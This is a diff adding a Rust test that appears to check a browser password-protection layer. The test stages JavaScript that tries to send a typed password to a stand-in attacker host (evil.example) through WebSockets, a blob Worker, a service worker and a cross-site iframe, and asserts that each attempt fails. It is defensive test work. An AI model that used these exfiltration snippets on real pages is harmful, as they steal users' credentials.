@@ -225,6 +225,73 @@ async fn nothing_takes_it_away() {
     world.end().await;
 }
 
+/// What the page tells to others takes nothing away either: its sockets, its service worker, a frame of another site, a window.
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_that_the_page_tells_takes_it_away() {
+    // W21, W23
+    let world = world().await;
+    world
+        .made(HOST, "<input id=password name=password type=password>")
+        .await;
+    let register = "navigator.serviceWorker.register('/sign-in/service.js', { scope: '/' })
+        .then(() => navigator.serviceWorker.ready)
+        .then(() => navigator.serviceWorker.controller ?? new Promise((done) => { navigator.serviceWorker.oncontrollerchange = done }))
+        .then(() => 'ready')";
+    assert_eq!(world.stage.evaluate(register).await, "ready");
+    let frame = "new Promise((done) => { const f = document.createElement('iframe'); f.onload = () => done('ready');
+        f.src = 'https://evil.example/sign-in/made?body=' + encodeURIComponent(`<script>onmessage = ({ data, source }) =>
+            fetch('/sign-in/to/evil', { method: 'POST', body: data }).then(() => 'arrived', () => 'failed').then((it) => source.postMessage(it, '*'))</script>`);
+        document.body.append(f) })";
+    assert_eq!(world.stage.evaluate(frame).await, "ready");
+    world.fills("#password", PASSWORD).await;
+    let answer = "const answer = (from) => new Promise((done) => from.addEventListener('message', ({ data }) => done(data), { once: true }))";
+    let socket = |address: &str| {
+        format!(
+            "new Promise((done) => {{ const s = new WebSocket('{address}'); s.onerror = () => done('failed');
+                s.onopen = () => {{ s.send(value); done('arrived') }} }})"
+        )
+    };
+    let worker = |to: &str, body: &str| {
+        format!(
+            "(() => {{ navigator.serviceWorker.controller.postMessage({{ to: '{to}', body: {body} }}); return answer(navigator.serviceWorker) }})()"
+        )
+    };
+    let evil = "https://evil.example/sign-in/to/evil";
+    for (code, outcome) in [
+        (socket("wss://evil.example/sign-in/socket"), "failed"),
+        (
+            "new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => {
+                const s = new WebSocket('wss://evil.example/sign-in/socket'); s.onerror = () => postMessage('failed');
+                s.onopen = () => { s.send(e.data); postMessage('arrived') } }`]))); w.onmessage = (e) => done(e.data); w.postMessage(value) })".to_owned(),
+            "failed",
+        ),
+        (worker(evil, "value"), "failed"),
+        (
+            "(() => { frames[0].postMessage(value, '*'); return answer(window) })()".to_owned(),
+            "failed",
+        ),
+        // Others go on as ever, and so does the site's own.
+        (socket("wss://login.bank.example/sign-in/socket"), "arrived"),
+        (worker("https://evil.example/sign-in/to/other", "'x'"), "arrived"),
+        (
+            "(() => { frames[0].postMessage('x', '*'); return answer(window) })()".to_owned(),
+            "arrived",
+        ),
+    ] {
+        let code = format!(
+            "(() => {{ const value = document.querySelector('#password').value; {answer}; return {code} }})()"
+        );
+        assert_eq!(world.stage.evaluate(&code).await, outcome, "{code}");
+    }
+    let own = |take: &guise_testsite::Take| take.method == "SOCKET";
+    let told = world.taken(own).await;
+    assert!(told.body.contains("canary"), "{told:?}");
+    for take in world.stage.site.takes().iter().filter(|take| !own(take)) {
+        world.says_nothing_in("what went elsewhere", &format!("{take:?}"));
+    }
+    world.end().await;
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn clients_are_turned_away_that_may_not_read_secrets() {
     let world = world().await;
